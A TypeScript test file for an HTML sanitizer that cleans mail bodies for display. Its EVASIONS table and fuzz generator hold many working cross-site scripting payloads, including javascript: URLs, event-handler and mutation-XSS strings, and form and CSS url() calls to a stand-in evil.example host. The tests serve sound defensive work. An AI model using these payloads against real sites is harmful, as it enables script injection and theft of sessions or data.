import fc from 'fast-check';
import type {} from 'trusted-types';
import { HOSTILE_BODY, RICH_BODY } from '../../dev/rich-body';
import { sanitize } from './sanitize';

const HARMLESS_TAGS = new Set(
  `A B BLOCKQUOTE BR CAPTION CENTER CODE DD DEL DIV DL DT EM FONT H4 HR I IMG INS LI MARK OL P PRE S SMALL SPAN
  STRIKE STRONG SUB SUP TABLE TBODY TD TFOOT TH THEAD TR U UL`.split(/\s+/),
);
const HARMLESS_ATTRIBUTE =
  /^(align|alt|aria-label|border|cellpadding|cellspacing|colspan|data-photo|data-plain|data-sheet|data-withheld-picture|dir|height|href|lang|loading|referrerpolicy|rel|reversed|role|rowspan|src|start|style|tabindex|target|title|type|valign|value|width)$/;
const HARMLESS_STYLE =
  /^(--given-color|background-color|border-(bottom|collapse|left|radius|right|top)|display|font-style|font-weight|padding|text-align|text-decoration|vertical-align)/;
const HARMLESS_ADDRESS =
  /^(?:(?:href|src)=https?:|href=(?:mailto|tel):|src=data:image\/(?:avif|bmp|gif|jpe?g|png|webp|x-icon)[;,])/i;

/** The elements, attributes, styles and URLs that are more than formatting. */
const dangersIn = (box: ParentNode): string[] =>
  [...box.querySelectorAll<HTMLElement>('*')].flatMap((element) => [
    ...(HARMLESS_TAGS.has(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes].map(({ name }) => name).filter((name) => !HARMLESS_ATTRIBUTE.test(name)),
    ...Array.from(element.style).filter((property) => !HARMLESS_STYLE.test(property)),
    ...['href', 'src']
      .map((name) => `${name}=${element.getAttribute(name) ?? 'https:'}`)
      .filter((address) => !HARMLESS_ADDRESS.test(address)),
  ]);

const TEXTS = { picture: 'Picture', table: 'Table' };

/** Sanitizes a body and inserts it into the page, where the nodes are adopted as they are in a browser. */
const insertBody = (html: string): HTMLElement => {
  const box = document.createElement('div');
  document.body.replaceChildren(box);
  box.append(sanitize(html, TEXTS));
  return box;
};

/** Also of the nodes when they are serialized and parsed again, as when a customer copies them. */
const dangersOf = (html: string): string[] => {
  const box = insertBody(html);
  const template = document.createElement('template');
  template.innerHTML = box.innerHTML;
  return [...dangersIn(box), ...dangersIn(template.content)];
};

const alert = jest.spyOn(window, 'alert').mockImplementation(() => undefined);
afterEach(() => expect(alert).not.toHaveBeenCalled());

/** One body for each way to evade a filter. DOMPurify tests its own; these are what its options and the renaming before it could open. */
const EVASIONS = {
  scripts: [
    `';alert(1)//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>`,
    '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
    '<HTML xmlns:xss><?import namespace="xss" implementation="https://evil.example/x.htc"><xss:xss>x</xss:xss></HTML>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<BASE HREF="javascript:alert(1);//"><LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="javascript:alert(1)"></object>',
    '<form action="https://evil.example"><input name=code><button>Send</button></form>',
    HOSTILE_BODY,
  ],
  addresses: [
    '<IMG SRC=JaVaScRiPt:alert(1)>',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
    '<A HREF="javascript&colon;alert(1)">x</A>',
    '<A HREF="https:\\\\evil.example">x</A>',
    '<a href="//evil.example">x</a><a href="/logout">x</a>',
    '<a href="data:image/png;base64,AAAA">x</a><a href="blob:https://evil.example/1">x</a>',
    '<a href="https://ok.example" ping="https://evil.example" target="portal">x</a>',
    '<img src="data:image/png,x" srcset="data:image/svg+xml,x"><IMG DYNSRC="javascript:alert(1)">',
    '<IMG SRC="DATA:IMAGE/SVG+XML,<svg onload=alert(1)></svg>">',
    '<IMG SRC="data:image/svg&#x2b;xml,<svg onload=alert(1)></svg>">',
    '<IMG SRC="data:image/png+svg+xml,<svg onload=alert(1)></svg>"><IMG SRC="data:,x">',
    '<p href="https://evil.example" src="https://evil.example/a.png">x</p><a src="mailto:a@example.com">x</a>',
  ],
  handlers: [
    '<img src="https://ok.example/a.png" onload="alert(1)" onerror=alert(1)>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
    '<p/onpointerenter=alert(1) onfocus=alert(1) tabindex=1 autofocus contenteditable>x</p>',
    '<video src=x onerror=alert(1)><source onerror="alert(1)"></video><details open ontoggle=alert(1)>x</details>',
    '<table><tr onclick=alert(1)><td onclick=alert(1)>x</table>',
  ],
  'style sheets': [
    '<p style="position:fixed;inset:0;z-index:9;background:url(https://evil.example)">x</p>',
    '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\'\\0029">x</DIV>',
    '<DIV STYLE="color:red/*;*/;inset:0">x</DIV>',
    '<DIV STYLE="background-color:red url(https://evil.example/x)">x</DIV>',
    '<DIV STYLE="text-decoration:underline;--given-color:url(https://evil.example/x)">x</DIV>',
    '<p data-given-style="inset:0" style="color:red">x</p>',
    '<p STYLE=color:red;position:fixed style=position:absolute>x</p>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    '<style/><img src=x onerror=alert(1)>',
    '<style><img src="</style><img src=x onerror=alert(1)>">',
  ],
  mutations: [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math><mtext><table><mglyph><style><math href=javascript:alert(1)>x</math></style></mglyph></table></mtext></math>',
    '<svg><desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;&lt;s&gt;&lt;a onclick=alert(1)&gt;x',
    '<div><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template></div>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<is-x is="script" onclick=alert(1)>x</is-x><p is="x-y">x</p>',
  ],
  clobbering: [
    '<form onclick=alert(1)><input name=attributes><input name=parentNode><input name=childNodes></form>',
    '<p id="root" name="cookie" class="MuiAlert-root" slot="x" part="y" for=x form=y aria-live="assertive">x</p>',
  ],
  'whole documents': [
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '</body><body onload=alert(1)><html onclick=alert(1)>',
  ],
};

describe.each(Object.entries(EVASIONS))('removes %s', (_, bodies) => {
  test.each(bodies)('%s', (html) => expect(dangersOf(html)).toEqual([]));
});

it('removes scripts and style sheets with their content, and keeps the text of other elements', () => {
  const body = insertBody(
    '<form><label>Reading</label> <b>4711</b></form><script>alert(1)</script><style>b{}</style>',
  );
  expect(body).toHaveTextContent(/^Reading 4711$/);
});

const first = (html: string, selector: string): HTMLElement =>
  insertBody(html).querySelector<HTMLElement>(selector) ?? document.body;

describe('a body keeps', () => {
  it('the formatting of a rich text, and text that looks like a style', () => {
    const box = insertBody(`${RICH_BODY}<p>my style = "color:red" &lt;style&gt;</p>`);
    expect(dangersIn(box)).toEqual([]);
    expect(box.querySelector('strong')).toHaveTextContent('circulation pump');
    expect(box.querySelectorAll('ol > li')).toHaveLength(2);
    expect(box.querySelectorAll('tbody td')).toHaveLength(12);
    expect(box).toHaveTextContent('my style = "color:red" <style>');
  });

  test.each([
    ['<p style="COLOR: red">x</p>', 'p[style="--given-color: red;"]'],
    ['<font color="c00000">x</font>', 'font[style="--given-color: rgb(192, 0, 0);"]'],
    ['<p style="font-weight: bold; margin: 9em; color: x">x</p>', 'p[style="font-weight: bold;"]'],
    ['<table><tr><td bgcolor="#003366">x</table>', 'td[style="background-color: rgb(0, 51, 102);"]'],
    ['<p lang="de">x</p>', 'p[lang="de"]'],
    ['<dl><dt>Pump</dt><dd>x</dd></dl>', 'dl > dd'],
    ['<ol type="a" start="3"><li value="7">x</li></ol>', 'ol[type="a"][start="3"] > li[value="7"]'],
    ['<table cellpadding="8"><tr><td>x</table>', 'table[cellpadding="8"]'],
    ['<a href="manual.pdf">x</a>', 'a:not([href])'],
    ['<a href="">x</a>', 'a:not([href])'],
    ...['section', 'details', 'figcaption'].map((tag) => [`<b>a</b><${tag}>x</${tag}>`, 'b + div']),
  ])('what it means: %s', (html, selector) => {
    expect(first(html, selector)).toHaveTextContent(/^x$/);
  });
});

describe('a body of plain text', () => {
  const body = (html: string) => insertBody(html).querySelector('[data-plain]');

  test.each([
    ['Dear Ann,\nwe come on Friday.', 'Dear Ann,\nwe come on Friday.'],
    ['Pressure < 3 bar\r\nTom &amp; Dana', 'Pressure < 3 bar\nTom & Dana'],
    ['<dana@example.com>\nor <https://example.com>', '<dana@example.com>\nor <https://example.com>'],
  ])('keeps its lines and its text: %j', (html, text) => {
    expect(body(html)?.textContent).toBe(text);
  });

  test.each(['<p>Words</p>\n', 'a<br/>b', 'Words</b>', '<!-- x -->Words'])('is not %j', (html) => {
    expect(body(html)).toBeNull();
  });
});

describe('a mail', () => {
  it('with backgrounds of its own is on a sheet, with its buttons', () => {
    const mail = insertBody(
      `<a style="background:#cc0000;color:#fff;padding:8px 16px;border-radius:4px;display:inline-block;
      text-decoration:none" href="https://example.com">Confirm</a>`,
    );
    expect(mail.querySelector('[data-sheet] > a')).toHaveStyle({
      backgroundColor: '#cc0000',
      paddingTop: '8px',
      paddingLeft: '16px',
      borderRadius: '4px',
      display: 'inline-block',
      textDecoration: 'none',
    });
  });

  test.each(['color:red', 'background-color:transparent', 'background:none'])(
    'with %s needs no sheet',
    (style) => {
      expect(insertBody(`<p style="${style}">x</p>`).querySelector('[data-sheet]')).toBeNull();
    },
  );
});

describe('a link', () => {
  test.each([
    ['https://example.com/a?b=c', '_blank'],
    ['http://example.com/', '_blank'],
    ['mailto:a@example.com', ''],
    ['tel:+12025550123', ''],
  ])('to %s opens in %j', (href, target) => {
    expect(first(`<a href="${href}">x</a>`, 'a')).toMatchObject({ href, target, rel: 'noopener noreferrer' });
  });

  it('without text is named by its picture, or by its address', () => {
    const link = (picture: string) => first(`<a href="https://example.com/">${picture}</a>`, 'a');
    expect(link('<img src="https://example.com/a.png">')).toHaveAttribute(
      'aria-label',
      'https://example.com/',
    );
    expect(link('<img alt="Plan" src="https://example.com/a.png">')).not.toHaveAttribute('aria-label');
  });
});

describe('an image', () => {
  it('loads lazily and without a referrer; without alt, it is decorative', () => {
    const image = first('<img src="https://example.com/a.png" width="40">', 'img');
    expect(image).toMatchObject({ src: 'https://example.com/a.png', width: 40 });
    expect(image).toHaveAttribute('loading', 'lazy');
    expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
    expect(image).toHaveAttribute('alt', '');
  });

  test.each(['png', 'jpeg', 'webp'])('in a data URL is kept if it is a %s', (type) => {
    const src = `data:image/${type};base64,AA==`;
    expect(first(`<img src="${src}" alt="Pump">`, 'img')).toMatchObject({ src, alt: 'Pump' });
  });

  test.each(['data:image/svg+xml,<svg/>', 'data:text/html,x', 'a.png', 'cid:1', 'mailto:a@example.com', ''])(
    'from %j is replaced by its alt text',
    (src) => expect(first(`<p>[<img src="${src}" alt="Pump">]</p>`, 'p').innerHTML).toBe('[Pump]'),
  );
});

it('puts a table, but no table inside one, into a focusable box that scrolls', () => {
  const body = insertBody('<table><tr><td><table><tr><td>1</td></tr></table></td></tr></table>');
  expect(body.querySelectorAll('table')).toHaveLength(2);
  const [box, ...others] = body.querySelectorAll('[role=group]');
  expect(box).toHaveAttribute('tabindex', '0');
  expect(box).toHaveAttribute('aria-label', 'Table');
  expect(others).toEqual([]);
});

it('puts headings with content below the heading of their event, and removes others', () => {
  const box = insertBody(
    '<h2> </h2><h6><br></h6><h3><img src="data:image/png,"></h3><h1 style="text-align:center" dir="rtl"><em>x</em></h1>',
  );
  expect(box.querySelectorAll('h4')).toHaveLength(2);
  expect(box.querySelector('h4[dir="rtl"]')).toHaveStyle({ textAlign: 'center' });
  expect(box.querySelector('h4 > em')).toHaveTextContent('x');
});

describe('with Trusted Types', () => {
  const sanitizeWith = async (createPolicy: jest.Mock) => {
    Object.assign(window, { trustedTypes: { createPolicy } });
    const parsed = jest.spyOn(DOMParser.prototype, 'parseFromString');
    await jest.isolateModulesAsync(async () => {
      const { sanitize } = await import('./sanitize');
      document.body.replaceChildren(sanitize('<p>Words</p><script>alert(1)</script>', TEXTS));
    });
    return parsed.mock.calls.map(([html]) => typeof html);
  };

  afterEach(() => {
    delete window.trustedTypes;
    jest.restoreAllMocks();
  });

  it('parses with a single policy, "portal-html"', async () => {
    const trust = (html: string) => ({ toString: () => html });
    const createPolicy = jest.fn(() => ({ createHTML: trust, createScriptURL: trust }));
    expect(await sanitizeWith(createPolicy)).toEqual(['object']);
    expect(createPolicy.mock.calls).toEqual([['portal-html', expect.anything()]]);
    expect(document.body.innerHTML).toBe('<div><p>Words</p></div>');
  });

  it('parses without a policy on a page that does not allow it', async () => {
    const createPolicy = jest.fn(() => {
      throw new TypeError('Policy "portal-html" disallowed.');
    });
    expect(await sanitizeWith(createPolicy)).toEqual(['string']);
    expect(createPolicy).toHaveBeenCalledTimes(1);
    expect(document.body.innerHTML).toBe('<div><p>Words</p></div>');
  });
});

describe('generated bodies', () => {
  const tag = fc.constantFrom(
    ...`a annotation-xml article b base blockquote body br button caption col colgroup desc details dialog div dl em
    embed font foreignObject form frame frameset h1 h2 h3 h6 head hr html i iframe image img input li link listing
    main map marquee math meta mglyph mi mtext noembed noframes noscript object ol option p param plaintext portal pre
    script section select selectedcontent slot span strike style svg table tbody td template textarea tfoot th thead
    title tr track u ul use video wbr x-element xmp`.split(/\s+/),
  );
  const space = fc.constantFrom(' ', '\n', '\t', '/', '\f', '');
  const name = fc.constantFrom(
    ...`action align alt attributeName background class colspan data-given-style data-photo data-withheld-picture dir formaction
    height href id is name onclick onerror onload role shadowrootmode src srcdoc srcset start style tabindex target
    title type width xlink:href xml:base xmlns`.split(/\s+/),
    'ON\0CLICK',
  );
  const value = fc.oneof(
    fc.constantFrom(
      ...`javascript:alert(1) &#106;avascript:alert(1) data:image/png;base64,AA== --> ]]> open alert(1)
      data:text/html,<script>alert(1)</script> https://example.com/a.png //evil.example mailto:a@example.com
      color:red;position:fixed background-color:var(--x);inset:0`.split(/\s+/),
      'JaVa\tScript:alert(1)',
      'data:image/svg+xml,<svg onload=alert(1)>',
      '</style><img src=x onerror=alert(1)>',
    ),
    fc.string({ unit: 'binary', maxLength: 8 }),
  );
  const quote = fc.constantFrom('"', "'", '', '`');
  const attribute = fc
    .tuple(space, name, quote, value)
    .map(([gap, key, mark, text]) => `${gap}${key}=${mark}${text}${mark}`);
  const open = fc
    .tuple(tag, fc.array(attribute, { maxLength: 4 }), fc.constantFrom('>', '/>', '', ' >'))
    .map(([element, attributes, end]) => `<${element} ${attributes.join(' ')}${end}`);
  const piece = fc.oneof(
    { weight: 5, arbitrary: open },
    { weight: 3, arbitrary: tag.map((element) => `</${element}>`) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        ...'text <!-- --> --!> <![CDATA[ ]]> <? < > " ` \0 \uD800'.split(' '),
        '<!doctype html>',
        '&lt;img onerror=alert(1)&gt;',
      ),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  );
  const body = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(''));

  it('never throw, and contain nothing executable when sanitized', () => {
    fc.assert(
      fc.property(body, (html) => {
        expect(dangersOf(html)).toEqual([]);
      }),
      // A fixed seed: a failure in CI is then caused by the change. Other seeds may find more.
      { numRuns: 400, seed: 2070479301 },
    );
  });
});

// jsdom takes quadratic time for nested elements; `orders.spec.ts` tests 10,000 levels in a browser.
describe('extremely large bodies', () => {
  test.each([
    ['1,000 levels of formatting', '<div>'.repeat(1000)],
    ['1,000 levels of other namespaces', '<svg><g><math><mtext>'.repeat(250)],
    ['200 nested tables', '<table><tr><td>'.repeat(200)],
    ['100,000 unclosed tags', '<a<b<i<'.repeat(33_333)],
    ['a picture of 5 MB', `<img alt="Pump" src="data:image/png;base64,${'A'.repeat(5_242_880)}">`],
    ['an attribute of 5 MB', `<p onclick="${'x'.repeat(5_242_880)}" style="${' '.repeat(1_000_000)}">x</p>`],
    ['1 MB of invalid characters', '\0\uD800\uDFFF\uFFFF'.repeat(262_144)],
  ])('%s', (_, html) => {
    expect(dangersIn(insertBody(html))).toEqual([]);
  });
});
